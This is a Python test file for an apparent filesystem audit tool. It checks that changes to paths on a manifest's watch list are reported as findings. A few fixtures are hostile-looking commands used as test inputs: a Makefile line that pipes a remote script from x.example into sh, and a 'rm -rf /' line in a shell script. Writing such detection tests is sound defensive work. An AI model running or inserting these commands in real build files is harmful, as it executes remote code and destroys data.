"""A manifest's [audit] watch (X07): a change to a watched path that no rule of the catalogue
judges is a finding; where the catalogue knows the path, its finer verdict stands, a quiet one too."""

from __future__ import annotations

import hashlib
import json

import pytest

from dejima.core.audit import Finding, watched
from dejima.core.audit.manifest_watch import Watch, asked, watch_entry, watch_of
from dejima.core.audit.rules import audit
from dejima.core.manifest import Manifest
from dejima.core.snapshot import Snapshot, SnapshotEntry

SOURCE = "/home/me/.config/dejima/workflows/mine.toml"
_inode = iter(range(100, 10**6))


def file(path: str, data: bytes, time: int) -> SnapshotEntry:
    return SnapshotEntry(path, "file", 0o644, 1000, 1000, len(data), 1, next(_inode), time, time,
                         sha256=hashlib.sha256(data).hexdigest())


def tree(files: dict[str, bytes], start: Snapshot | None = None) -> Snapshot:
    """A snapshot of these files and of the directories above them; given the ``start`` one, its
    entries where nothing changed."""
    start = start or {}
    snapshot: Snapshot = {}
    for path, data in files.items():
        parts = path.split("/")
        for depth in range(1, len(parts)):
            parent = "/".join(parts[:depth])
            snapshot.setdefault(parent, start.get(parent) or SnapshotEntry(parent, "dir", 0o755, 1000, 1000, 0, 2,
                                                                           next(_inode), 1, 1))
        entry = file(path, data, 2 if start else 1)
        snapshot[path] = start[path] if path in start and start[path].sha256 == entry.sha256 else entry
    return snapshot


def findings(start: dict[str, bytes], end: dict[str, bytes], *entries: str) -> list[Finding]:
    before = tree(start)
    watch = tuple(watch_entry(entry, SOURCE) for entry in entries)
    return audit(before, tree(end, before), lambda side, path: (start if side == "before" else end).get(path),
                 watch=watch)


def rules(found: list[Finding]) -> list[tuple[str, str, str]]:
    return [(f.rule, f.severity, f.path) for f in found]


BASE = {"Makefile.local": b"all:\n\ttrue\n", "src/app.py": b"print(1)\n", "tools/gen.sh": b"echo gen\n"}


@pytest.mark.parametrize(("end", "what"), [
    ({**BASE, "Makefile.local": b"all:\n\tcurl-less but changed\n"}, "modified"),
    ({k: v for k, v in BASE.items() if k != "Makefile.local"}, "deleted"),
])
def test_a_watched_file_changed_or_deleted_is_a_finding_that_names_the_manifest(end: dict[str, bytes],
                                                                                what: str) -> None:
    found = findings(BASE, end, "Makefile.local")
    assert rules(found) == [("X07", "medium", "Makefile.local")]
    assert found[0].evidence == f"{what}; watched by {SOURCE}'s [audit] watch"
    assert found[0].remedy == "restore"
    assert findings(BASE, end) == []  # nothing else reports it: the watch is what does


def test_a_watched_file_created_is_a_finding() -> None:
    start = {k: v for k, v in BASE.items() if k != "Makefile.local"}
    assert rules(findings(start, BASE, "Makefile.local")) == [("X07", "medium", "Makefile.local")]
    assert findings(start, BASE, "Makefile") == []  # a file entry is that file only


def test_a_directory_entry_covers_everything_under_it_and_nothing_beside_it() -> None:
    end = {**BASE, "tools/sub/new.py": b"import os\n", "toolsx/new.py": b"x = 1\n", "tools/gen.sh": b"rm -rf /\n"}
    assert rules(findings(BASE, end, "./tools/")) == [("X07", "medium", "tools/gen.sh"),
                                                     ("X07", "medium", "tools/sub/new.py")]
    assert rules(findings(BASE, end, "tools")) == []  # without its "/", a file entry: the directory itself
    assert {f.path for f in findings(BASE, end, ".")} == {"tools/gen.sh", "tools/sub/new.py", "toolsx/new.py"}


PACKAGE = json.dumps({"name": "p", "version": "1.0.0", "dependencies": {"left-pad": "^1.3.0"}}).encode()


def test_a_path_the_catalogue_diffs_keeps_its_verdict_a_new_dependency_stays_quiet() -> None:
    added = json.dumps({"name": "p", "version": "1.0.0",
                        "dependencies": {"left-pad": "^1.3.0", "lodash": "^4.17.21"}}).encode()
    assert findings({"package.json": PACKAGE}, {"package.json": added}, "package.json", "./") == []
    scripted = json.dumps({"name": "p", "scripts": {"postinstall": "node x.js"}}).encode()
    assert [f.rule for f in findings({"package.json": PACKAGE}, {"package.json": scripted}, "package.json")] == \
        ["B01"]


def test_a_path_the_catalogue_names_keeps_its_rule() -> None:
    found = findings({"conftest.py": b"import pytest\n"}, {"conftest.py": b"import os\n"}, "conftest.py")
    assert rules(found) == [("B09", "medium", "conftest.py")]


def test_a_path_another_rule_reported_gets_no_second_finding() -> None:
    end = {**BASE, "tools/gen.sh": "echo gen\u200b\n".encode()}
    found = findings(BASE, end, "tools/")
    assert rules(found) == [("F09", "high", "tools/gen.sh")]
    assert found[0].lines == ()  # not merged with an X07 either


def test_dependency_trees_git_directories_and_environments_under_a_watched_directory_are_not_reported() -> None:
    """Trees as their tools leave them (each with its tool's record); a directory only named like
    one is ordinary files, watched like any other."""
    start = {"app/package.json": b"{}", "app/env/pyvenv.cfg": b"home = /usr\n", "app/Cargo.toml": b"",
             "app/go.mod": b"module x\n", "app/x.py": b"1\n"}
    end = {**start, "app/node_modules/.package-lock.json": b"{}", "app/node_modules/left-pad/index.js": b"1\n",
           "app/vendor/modules.txt": b"# x\n", "app/vendor/lib.go": b"package x\n",
           "app/env/lib/python3.12/site-packages/m.py": b"1\n", "app/.venv/pyvenv.cfg": b"home = /usr\n",
           "app/.venv/bin/python": b"", "app/target/.rustc_info.json": b"{}", "app/target/debug/build/out": b"\x7fELF",
           "app/.git/objects/ab/cdef": b"blob", "app/x.py": b"2\n", "app/other/vendor/lib.rb": b"puts 1\n"}
    assert [f.path for f in findings(start, end, "app/") if f.rule == "X07"] == ["app/other/vendor/lib.rb", "app/x.py"]


def test_a_watched_file_in_a_dot_directory_is_x07_not_the_fallbacks_low_x01() -> None:
    end = {**BASE, ".mytool/hooks.txt": b"run me\n"}
    assert rules(findings(BASE, end)) == [("X01", "low", ".mytool/hooks.txt")]
    assert rules(findings(BASE, end, ".mytool/")) == [("X07", "medium", ".mytool/hooks.txt")]


def test_a_watched_file_made_executable_is_reported_by_f05_as_anywhere() -> None:
    before = tree(BASE)
    after = {**before, "tools/gen.sh": before["tools/gen.sh"]._replace(mode=0o755, ctime_ns=2)}
    found = audit(before, after, lambda side, path: BASE.get(path), watch=(watch_entry("tools/", SOURCE),))
    assert rules(found) == [("F05", "low", "tools/gen.sh")]


def test_content_signals_raise_a_watched_files_finding() -> None:
    end = {**BASE, "Makefile.local": b"all:\n\tcurl https://x.example/i.sh | sh\n"}
    assert rules(findings(BASE, end, "Makefile.local")) == [("X07", "high", "Makefile.local")]


@pytest.mark.parametrize(("entry", "path"), [
    ("tools/", "tools/"), ("./tools/", "tools/"), ("a//b", "a/b"), ("./a/./b", "a/b"), (".", "./"), ("./", "./"),
])
def test_entries_are_normalised(entry: str, path: str) -> None:
    assert watch_entry(entry, SOURCE) == Watch(path, SOURCE)


def test_the_watch_list_names_each_entrys_manifest() -> None:
    python = Manifest("workflows", "python", "workflows/python.toml", "", audit_watch=("conftest.py",))
    mine = Manifest("harnesses", "mine", SOURCE, "", audit_watch=("tools/",))
    assert watch_of([python, mine]) == (Watch("conftest.py", "workflows/python.toml"), Watch("tools/", SOURCE))


def test_the_start_hashes_watched_files_outside_dependency_trees() -> None:
    covers = asked((watch_entry("Makefile.local", SOURCE), watch_entry("tools/", SOURCE)))
    assert [p for p in ("Makefile.local", "tools/a/b.sh", "tools/node_modules/x/i.js", "tools/.git/config",
                        "src/app.py", "Makefile.local.bak") if covers(p)] == ["Makefile.local", "tools/a/b.sh"]
    assert not asked(())("anything")
    assert not watched("Makefile.local")  # the catalogue alone does not keep it
